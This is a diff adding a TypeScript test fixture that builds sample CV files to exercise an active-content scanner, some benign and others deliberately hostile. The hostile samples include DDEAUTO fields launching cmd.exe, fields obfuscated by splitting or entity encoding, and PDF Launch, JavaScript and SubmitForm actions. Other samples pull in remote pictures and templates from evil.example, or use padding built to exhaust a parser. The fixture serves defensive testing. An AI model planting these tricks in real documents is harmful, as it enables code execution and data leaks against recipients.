@@ -1,0 +1,295 @@
+/** Files that are taken, with a word for whoever opens them (SEC-08); and honest ones, without. */
+import { createHash } from "node:crypto";
+import { readFileSync } from "node:fs";
+import { deflateSync } from "node:zlib";
+import { oleWith, related } from "./outside.ts";
+import { ole, ROOT, WORD } from "./ole.ts";
+import { docx, RELATIONS_PART, TYPES_PART, zip, type ZipPart } from "./zip.ts";
+
+const DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
+const PDF = "application/pdf";
+
+const body = (inner: string): string =>
+  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p>${inner}</w:p></w:body></w:document>`;
+const written = (inner: string, ...more: ZipPart[]): Buffer =>
+  zip([TYPES_PART, RELATIONS_PART, { name: "word/document.xml", data: body(inner) }, ...more]);
+const field = (...pieces: string[]): string =>
+  `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${pieces.map((piece) => `<w:r><w:instrText xml:space="preserve">${piece}</w:instrText></w:r>`).join("")}<w:r><w:fldChar w:fldCharType="end"/></w:r>`;
+const command = String.raw` c:\\windows\\system32\\cmd.exe "/k calc.exe" `;
+
+/** What hardly shrinks, beside what shrinks too well. */
+const noisy: ZipPart[] = [
+  { name: "word/media/a.jpg", data: createHash("sha256").update("a").digest(), stored: true },
+  {
+    name: "word/media/b.jpg",
+    data: Buffer.concat(
+      Array.from({ length: 3000 }, (_, index) =>
+        createHash("sha256").update(String(index)).digest(),
+      ),
+    ),
+    stored: true,
+  },
+];
+
+const activeDocx = (): [string, Buffer][] => [
+  ["a field that runs a program", written(field(` DDEAUTO${command}`))],
+  ["a field that runs a program, in pieces", written(field(" DD", "EAU", `TO${command}`))],
+  ["a field that runs a program, with entities", written(field(`&#68;DE${command}`))],
+  [
+    "a simple field that runs a program",
+    written(`<w:fldSimple w:instr="DDE${command.replaceAll('"', "&quot;")}"/>`),
+  ],
+  ["a field spelled in numbers", written(field(" QUOTE 68 68 69 65 85 84 79 "))],
+  [
+    "a field in a header",
+    docx({ name: "word/header1.xml", data: body(field(` DDEAUTO${command}`)) }),
+  ],
+  [
+    "a field in a part without an ending",
+    docx({ name: "word/part", data: body(field(` DDEAUTO${command}`)) }),
+  ],
+  [
+    "a field in UTF-16",
+    docx({
+      name: "word/header1.xml",
+      data: Buffer.from(
+        `\ufeff${body(field(` DDEAUTO${command}`)).replace("UTF-8", "UTF-16")}`,
+        "utf16le",
+      ),
+    }),
+  ],
+  [
+    "a picture taken in from elsewhere",
+    written(field(String.raw` INCLUDEPICTURE "\\\\evil.example\\a.png" \d `)),
+  ],
+  [
+    "an object in an OLE container",
+    docx({ name: "word/embeddings/oleObject1.bin", data: oleWith("\u0001Ole10Native") }),
+  ],
+  [
+    "an object by its relation",
+    docx({ name: "word/a.xml", data: "<x/>" }, related("oleObject", "a.xml", { mode: "" })),
+  ],
+  [
+    "a package in the text",
+    docx(
+      { name: "word/embeddings/a.bin", data: "PK" },
+      related("package", "embeddings/a.bin", { mode: "" }),
+    ),
+  ],
+  [
+    "a web page to take in",
+    docx(
+      { name: "word/afchunk.htm", data: "<html></html>" },
+      related("aFChunk", "afchunk.htm", { mode: "" }),
+    ),
+  ],
+  ["a picture of a page of the web", docx(related("image", "https://example.com/photo.png"))],
+];
+
+const made = (inner: string): Buffer =>
+  Buffer.from(`%PDF-1.7\n1 0 obj\n${inner}\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF\n`, "latin1");
+/** A PDF whose objects lie in a compressed stream. */
+const packed = (
+  inner: string,
+  dictionary = "/Type/ObjStm/N 1/First 4/Filter/FlateDecode",
+): Buffer => {
+  const data = deflateSync(Buffer.from(`2 0 ${inner}`));
+  return Buffer.concat([
+    Buffer.from(`%PDF-1.7\n1 0 obj\n<<${dictionary}/Length ${data.length}>>\nstream\r\n`),
+    data,
+    Buffer.from("\r\nendstream\nendobj\n%%EOF\n"),
+  ]);
+};
+
+const activePdf = (): [string, Buffer][] => [
+  ["a script, a letter of its name as a number", made("<</S/J#61vaScript/JS(app.alert(1))>>")],
+  ["a script, its key as numbers", made("<</S/Java#53cript/#4a#53 (x)>>")],
+  ["a script, a comment between", made("<</S%\n/JavaScript%x\n/JS%\n(x)>>")],
+  ["a program to start", made("<</S/#4caunch/F(cmd.exe)>>")],
+  ["a way into an attached file", made("<</S/GoToE/T<</R/C>>>>")],
+  ["a way into a file elsewhere", made("<</S/GoToR/F(\\\\\\\\evil.example\\\\a)>>")],
+  ["a form that sends", made("<</S/SubmitForm/F(http://evil.example)>>")],
+  ["an attached file", made("<</Type/Filespec/EF<</F 3 0 R>>>>\n<</Type/EmbeddedFile>>")],
+  ["attached files by a list", made("<</Names<</EmbeddedFiles 4 0 R>>>>")],
+  ["a film with a script", made("<</Subtype/RichMedia>>")],
+  ["a form of its own language", made("<</AcroForm<</XFA 5 0 R>>>>")],
+  ["a script in a compressed stream", packed("<</S/JavaScript/JS(app.alert(1))>>")],
+  [
+    "a script in a compressed stream, its kind as numbers",
+    packed("<</S/JavaScript/JS(x)>>", "/Type/#4fbjStm/N 1/F#69rst 4/Filter/FlateDecode"),
+  ],
+  [
+    "a compressed stream that nobody can open",
+    packed("<<>>", "/Type/ObjStm/N 1/First 4/Filter[/ASCIIHexDecode/FlateDecode]"),
+  ],
+  ["a compressed stream that never ends", packed(`<<${" ".repeat(30_000_000)}>>`)],
+];
+
+const activeDoc = (): [string, Buffer][] => [
+  ["a field that runs a program", text(`\u0013 DDEAUTO${command}\u0015`, "latin1")],
+  [
+    "a field that runs a program, in two bytes a letter",
+    text(`\u0013 DDE${command}\u0015`, "utf16le"),
+  ],
+  ["a template from elsewhere", text("http://evil.example/a.dotm\0", "utf16le")],
+  ["a packed file", ole({ entries: [ROOT, WORD, { name: "\u0001Ole10Native", kind: 2 }] })],
+];
+
+/** An old Word document with these words in its text. */
+function text(words: string, encoding: BufferEncoding): Buffer {
+  const file = ole();
+  file.write(words, 512 * 4, encoding);
+  return file;
+}
+
+/** What whoever opens it should know, and is told. */
+export const activeFiles = () =>
+  [
+    ...named("cv.docx", DOCX, activeDocx()),
+    ...named("cv.pdf", PDF, activePdf()),
+    ...named("cv.doc", "application/msword", activeDoc()),
+  ].map((file) => ({ ...file, type: `${file.type}; active=yes` }));
+
+const honestDocx = (): [string, Buffer][] => [
+  [
+    "links to pages, letters and files",
+    docx(related("hyperlink", "https://github.com/anna"), {
+      name: "docProps/app.xml",
+      data: "<Properties/>",
+    }),
+  ],
+  ["a link to a letter", docx(related("hyperlink", "mailto:anna@example.com"))],
+  [
+    "a template of its author's, as an address",
+    docx(
+      related(
+        "attachedTemplate",
+        "file:///C:\\Users\\anna\\AppData\\Roaming\\Microsoft\\Templates\\Resume.dotx",
+        { name: "word/_rels/settings.xml.rels" },
+      ),
+    ),
+  ],
+  [
+    "a template of its author's, as a path",
+    docx(
+      related("attachedTemplate", "C:\\Templates\\Normal.dotm", {
+        name: "word/_rels/settings.xml.rels",
+      }),
+    ),
+  ],
+  [
+    "a template of its author's on a Mac",
+    docx(
+      related("attachedTemplate", "file://localhost/Users/anna/Library/Templates/Resume.dotx", {
+        name: "word/_rels/settings.xml.rels",
+      }),
+    ),
+  ],
+  [
+    "a template of its author's, with escapes",
+    docx(
+      related("attachedTemplate", "file:///C:/Users/anna%20b/Resume.dotx", {
+        name: "word/_rels/settings.xml.rels",
+      }),
+    ),
+  ],
+  [
+    "a template by name alone",
+    docx(related("attachedTemplate", "Resume.dotx", { name: "word/_rels/settings.xml.rels" })),
+  ],
+  [
+    "the fields of a template",
+    written(
+      field(" MACROBUTTON NoMacro [Your name] ") +
+        field(" PAGE ") +
+        field(' HYPERLINK "https://example.com" ') +
+        field(" DATE \\@ yyyy "),
+    ),
+  ],
+  ["a skill called DDE", written("<w:r><w:t>DDE, OLE and DDEAUTO</w:t></w:r>")],
+  [
+    "a chart with its numbers",
+    docx(
+      { name: "word/embeddings/sheet1.xlsx", data: "PK\u0003\u0004", stored: true },
+      related("package", "../embeddings/sheet1.xlsx", {
+        mode: "",
+        name: "word/charts/_rels/chart1.xml.rels",
+      }),
+    ),
+  ],
+  [
+    "a drawing with a document type",
+    docx({
+      name: "word/media/image1.svg",
+      data: '<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg/>',
+    }),
+  ],
+  [
+    "an attribute of 200 kB, as Word keeps its drawings",
+    written(`<w:r><w:pict o:gfxdata="${"UEsDBBQABgAIAAAA".repeat(12_500)}"/></w:r>`, {
+      name: "word/media/a.jpg",
+      data: Buffer.from(Array.from({ length: 9000 }, (_, index) => (index * 7919) % 251)),
+      stored: true,
+    }),
+  ],
+];
+
+const honestPdf = (): [string, Buffer][] => [
+  ["objects in a compressed stream", packed("<</Type/Catalog/OpenAction[3 0 R/Fit]>>")],
+  ["links", made("<</S/URI/URI(https://github.com/anna)>>")],
+  ["a developer of React/JS", made("<</Title(React/JS developer, HTML/JavaScript (5 years))>>")],
+  ["an outline", made("<</Type/Outlines/First 5 0 R/Last 6 0 R/Count 4>>")],
+  [
+    "bytes that look like an archive's end",
+    Buffer.concat([made("<<>>"), Buffer.from("PK\u0005\u0006 and more of it, for twenty bytes")]),
+  ],
+];
+
+const kept = (name: string): Buffer => readFileSync(new URL(`honest/${name}`, import.meta.url));
+
+/**
+ * Two of them as their programs wrote them: `word.docx` is the template of python-docx (MIT), made with
+ * Word, `chrome.pdf` a page that Chromium printed.
+ */
+export const honestFiles = () => [
+  ...named("cv.docx", DOCX, [["as Word writes it", kept("word.docx")]]),
+  ...named("cv.pdf", PDF, [["as Chrome prints it", kept("chrome.pdf")]]),
+  ...named("cv.docx", DOCX, honestDocx()),
+  ...named("cv.pdf", PDF, honestPdf()),
+];
+
+function named(name: string, type: string, files: [string, Buffer][]) {
+  return files.map(([what, bytes]) => ({ what: `${name}: ${what}`, name, bytes, type }));
+}
+
+const TEN_MB = 10 * 1024 * 1024;
+const filled = (word: string): Buffer => {
+  const file = Buffer.alloc(TEN_MB, word, "latin1");
+  file.write("%PDF-1.7\n", "latin1");
+  return file;
+};
+const filledDoc = (word: string): Buffer => Buffer.concat([ole(), Buffer.alloc(TEN_MB, word)]);
+
+/** Made to keep us busy: what they are found to be is all the same, but it is found soon. */
+export const busyFiles = () => [
+  ...named("cv.pdf", PDF, [
+    ["names in words", filled("x/JS ")],
+    ["names that go on", filled("/JSx")],
+    ["names as numbers", filled("/#4a#53x ")],
+    ["strokes", filled("/")],
+    ["streams that are none", filled("/First stream\n")],
+    ["streams without an end", filled("/ObjStm/Fl stream\nx")],
+    ["ends of archives", filled("PK\u0005\u0006\0\0")],
+  ]),
+  ...named("cv.docx", DOCX, [
+    ["a field of spaces", written(field(` INCLUDEPICTURE${" ".repeat(200_000)}x`), ...noisy)],
+    ["numbers without end", written(field(" QUOTE 1".repeat(30_000)), ...noisy)],
+    ["five megabytes of elements", written("<w:r/>".repeat(900_000), ...noisy)],
+  ]),
+  ...named("cv.doc", "application/msword", [
+    ["templates", filledDoc("\\\\x.dot")],
+    ["fields", filledDoc("\u0013 ")],
+    ["fields of spaces", filledDoc(`\u0013${" ".repeat(19)}`)],
+  ]),
+];
